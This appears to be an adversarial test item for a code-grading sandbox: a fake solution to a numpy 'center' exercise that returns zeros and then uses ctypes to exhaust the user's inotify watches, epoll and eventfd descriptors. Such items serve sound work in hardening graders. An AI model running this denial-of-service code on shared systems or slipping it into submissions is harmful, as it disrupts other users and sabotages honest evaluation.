# exercise: broadcasting_rules/center
# tries: to use up what the kernel has of watches for all processes of one user
# must: its next tests and the next student are judged as ever
# seen: thought up for this collection, 2026-12
# stock: no: the watches are counted by user
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
kept = [libc.inotify_init1(0) for _ in range(500)]
for each in kept:
    for folder in (b"/", b"/usr", b"/tmp", b"/proc/self"):
        libc.inotify_add_watch(each, folder, 0xfff)
kept += [libc.epoll_create1(0) for _ in range(500)] + [libc.eventfd(0, 0) for _ in range(500)]
